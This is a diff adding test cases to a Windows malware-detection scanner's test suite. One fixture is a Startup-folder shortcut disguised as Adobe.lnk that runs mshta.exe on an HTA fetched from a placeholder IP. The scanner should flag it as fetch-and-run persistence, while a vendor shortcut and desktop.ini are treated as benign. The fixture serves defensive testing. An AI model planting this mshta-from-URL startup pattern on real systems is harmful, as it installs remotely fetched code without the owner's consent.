@@ -1,6 +1,7 @@
 /** Windows evidence as folders: what is told of infected hosts, and that lived-in servers are left in peace. */
 import { describe, expect, test } from 'bun:test';
 import { deflateRawSync } from 'node:zlib';
+import { linkFile } from '../../src/formats/shell-link/shell-link.fixture.ts';
 import type { ScanResult } from '../../src/model/result.ts';
 import {
   type HostSpec,
@@ -176,6 +177,18 @@ describe('an infected host', () => {
       },
       found: ['malicious startup-folder: fetch-and-run miner-command'],
     },
+    'a link in the Startup folder that starts what it fetches': {
+      spec: {
+        files: {
+          'Users/Administrator/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/Adobe.lnk':
+            linkFile({
+              localPath: 'C:\\Windows\\System32\\mshta.exe',
+              arguments: 'http://192.0.2.8/a.hta',
+            }),
+        },
+      },
+      found: ['malicious startup-folder: fetch-and-run'],
+    },
     'a web shell below the web root': {
       spec: {
         files: {
@@ -270,6 +283,15 @@ describe('a lived-in server', () => {
       files: {
         'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/drives.cmd':
           'net use Z: \\\\fileserver\\share /persistent:yes\r\nstart "" "C:\\Program Files\\Ops\\tray.exe"\r\n',
+      },
+    },
+    'with a link of a maker in the Startup folder, and a file that is no link': {
+      files: {
+        'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Tray.lnk': linkFile({
+          localPath: 'C:\\Program Files\\Vendor\\tray.exe',
+          arguments: '/background',
+        }),
+        'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/desktop.ini': '[.ShellClassInfo]',
       },
     },
     'with another scanner, and Defender switched off by policy': {
@@ -460,6 +482,23 @@ describe('where the drives lie', () => {
       loose.remove();
     }
   });
+});
+
+test('a link that is none is told, and nothing is clean then', async () => {
+  const result = await scanSpec({
+    files: {
+      'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/x.lnk': Uint8Array.from(
+        { length: 300 },
+        (_, at) => at & 255,
+      ),
+    },
+  });
+  expect(
+    result.sources.some(
+      ({ artifact, status }) => artifact === 'windows.startup-folder' && status === 'error',
+    ),
+  ).toBe(true);
+  expect(result.verdict).toBe('inconclusive');
 });
 
 test('a program that holds the words of a miner is told where a service starts it', async () => {
